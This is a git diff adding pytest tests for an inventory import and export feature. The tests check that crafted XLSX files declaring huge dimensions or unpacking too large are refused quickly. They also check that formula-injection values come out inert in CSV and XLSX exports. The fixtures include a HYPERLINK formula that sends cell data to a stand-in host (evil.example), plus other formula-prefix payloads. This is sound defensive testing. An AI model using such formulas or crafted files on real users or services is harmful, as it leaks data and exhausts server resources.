@@ -2,6 +2,7 @@
 
 import codecs
 import io
+import zipfile
 
 import openpyxl
 import pytest
@@ -362,3 +363,157 @@ def test_every_error_of_a_row_is_listed_not_only_the_first(lot):
     columns = {e.column for e in plan.errors if e.line == 3}
     assert columns == {"ram_go", "lot", "numero_serie"}
     assert not plan.rows or all(r.line != 3 for r in plan.rows)
+
+
+# Hostile spreadsheets: the work is bounded by the real content, not by what the file declares -----
+
+
+def _crafted_xlsx(sheet_rows: str, *, dimension: str = "A1:XFD1048576") -> bytes:
+    """A real workbook whose first sheet is replaced by hand-written XML (inline strings)."""
+    template = io.BytesIO(xlsx_bytes(["x"], []))
+    out = io.BytesIO()
+    with zipfile.ZipFile(template) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            content = source.read(info.filename)
+            if info.filename == "xl/worksheets/sheet1.xml":
+                content = (
+                    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+                    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+                    f'<dimension ref="{dimension}"/><sheetData>{sheet_rows}</sheetData></worksheet>'
+                ).encode()
+            target.writestr(info.filename, content)
+    return out.getvalue()
+
+
+def _inline_row(line: int, values: list[str]) -> str:
+    from openpyxl.utils import get_column_letter
+
+    cells = "".join(
+        f'<c r="{get_column_letter(i)}{line}" t="inlineStr"><is><t>{v}</t></is></c>'
+        for i, v in enumerate(values, start=1)
+    )
+    return f'<row r="{line}">{cells}</row>'
+
+
+def _bounded(data: bytes):
+    """Read ``data``; return (table or error, seconds, peak bytes allocated), timed without tracing."""
+    import time
+    import tracemalloc
+
+    def read():
+        try:
+            return read_table(data)
+        except ImportFileError as error:
+            return error
+
+    started = time.monotonic()
+    result = read()
+    seconds = time.monotonic() - started
+    tracemalloc.start()
+    try:
+        read()
+        _size, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    return result, seconds, peak
+
+
+HEADER_ROW = _inline_row(1, ["numero_serie", "fabricant", "modele", "lot"])
+
+
+@pytest.mark.parametrize(
+    ("sheet_rows", "message"),
+    [
+        # The last row of the sheet holds a cell in the last column: a million padded lines before it.
+        (HEADER_ROW + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', "plus de 21\u202f000 lignes"),
+        # 30,000 empty rows, without any cell: empty rows count.
+        (HEADER_ROW + "<row/>" * 30_000, "plus de 21\u202f000 lignes"),
+        # A value at XFD on an ordinary line: the columns read are capped.
+        (HEADER_ROW + _inline_row(2, ["S1", "Dell", "X", "L"])[:-6] + '<c r="XFD2"><v>7</v></c></row>', "colonne 64"),
+    ],
+    ids=["last-cell", "empty-rows", "far-column"],
+)
+def test_a_crafted_xlsx_gets_a_clear_error_quickly_and_in_little_memory(sheet_rows, message):
+    data = _crafted_xlsx(sheet_rows)
+    assert len(data) < 60_000  # a small file that declares 1,048,576 rows of 16,384 columns
+    result, seconds, peak = _bounded(data)
+    assert isinstance(result, ImportFileError), result
+    assert message in str(result)
+    assert seconds < 2, seconds
+    assert peak < 100 * 1024 * 1024, peak
+
+
+def test_a_declared_huge_dimension_is_ignored_for_an_honest_sheet():
+    body = "".join(_inline_row(n, [f"S{n}", "Dell", "X", "L"]) for n in range(2, 5))
+    result, seconds, peak = _bounded(_crafted_xlsx(HEADER_ROW + body))
+    assert result.headers == ["numero_serie", "fabricant", "modele", "lot"]
+    assert result.rows == [["S2", "Dell", "X", "L"], ["S3", "Dell", "X", "L"], ["S4", "Dell", "X", "L"]]
+    assert result.lines == [2, 3, 4]
+    assert seconds < 2 and peak < 20 * 1024 * 1024
+
+
+def test_gaps_in_the_row_numbers_keep_the_spreadsheet_line_numbers():
+    sheet = HEADER_ROW + _inline_row(3, ["S3", "Dell", "X", "L"]) + _inline_row(7, ["S7", "HP", "Y", "L"])
+    table = read_table(_crafted_xlsx(sheet, dimension="A1:D7"))
+    assert table.lines == [3, 7] and table.rows[1] == ["S7", "HP", "Y", "L"]
+
+
+def test_a_workbook_that_unpacks_too_large_is_refused(monkeypatch):
+    from inventory import importing
+
+    monkeypatch.setattr(importing, "MAX_XLSX_UNPACKED_BYTES", 1000)
+    with pytest.raises(ImportFileError, match="décompressé"):
+        read_table(xlsx_bytes(HEADER, rows(3)))
+
+
+# Formulas typed into the stock come out inert ------------------------------------------------------
+
+FORMULAS = {
+    "notes": '=HYPERLINK("https://evil.example/?x="&A1,"Voir")',
+    "model": "+1+1",
+    "cpu": "-1+1",
+    "os": "@SUM(A1:A9)",
+    "scrap_reason": "\t=1+1",
+}
+
+
+def _hostile_units(lot):
+    ComputerFactory(lot=lot, serial_number="EVIL1", **{k: v for k, v in FORMULAS.items() if k != "scrap_reason"})
+    ComputerFactory(lot=lot, serial_number="EVIL2", notes="\r=2+2", model="\uff1dCMD()")
+
+
+def test_the_csv_export_of_units_neutralises_formulas(lot, admin_client):
+    import csv
+
+    _hostile_units(lot)
+    data = export_all(admin_client)
+    records = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
+    by_serial = {r["numero_serie"]: r for r in records}
+    evil = by_serial["EVIL1"]
+    assert evil["notes"] == "'" + FORMULAS["notes"]
+    assert evil["modele"] == "'+1+1" and evil["processeur"] == "'-1+1" and evil["systeme"] == "'@SUM(A1:A9)"
+    assert by_serial["EVIL2"]["notes"] == "'\r=2+2" and by_serial["EVIL2"]["modele"] == "'\uff1dCMD()"
+    for record in records:
+        for value in record.values():
+            assert not value or value[0] not in "=+-@\t\r\uff1d", value
+
+
+def test_the_xlsx_export_of_units_holds_no_formula(lot, admin_client):
+    _hostile_units(lot)
+    url = reverse("admin:inventory_computer_export")
+    form = admin_client.get(url).context["form"]
+    fields = {name: "on" for name, field in form.fields.items() if field.widget.input_type == "checkbox"}
+    response = admin_client.post(url, {"format": "1", "resource": "0", **fields})
+    assert response.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    values = {c.value for c in cells}
+    assert "'" + FORMULAS["notes"] in values and "'+1+1" in values and "'@SUM(A1:A9)" in values
+
+
+def test_a_neutralised_export_reimports_the_values_as_typed(lot, operator, admin_client):
+    ComputerFactory(lot=lot, serial_number="EVIL1", **{k: v for k, v in FORMULAS.items() if k != "scrap_reason"})
+    plan = plan_import(read_table(export_all(admin_client)))
+    assert not plan.has_errors, plan.errors + plan.file_errors
+    assert plan.count("skip") == 1  # nothing changes: "'+1+1" reads back as "+1+1"
